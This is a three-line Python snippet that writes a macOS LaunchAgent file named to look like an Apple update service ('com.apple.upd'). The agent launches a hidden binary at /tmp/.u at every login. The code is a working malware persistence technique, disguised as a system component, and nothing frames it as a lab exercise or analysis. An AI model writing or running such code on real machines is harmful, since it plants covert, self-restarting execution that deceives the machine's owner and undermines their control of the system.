import os, plistlib
p = {'Label': 'com.apple.upd', 'ProgramArguments': ['/tmp/.u'], 'RunAtLoad': True}
plistlib.dump(p, open(os.path.expanduser('~/Library/LaunchAgents/com.apple.upd.plist'), 'wb'))
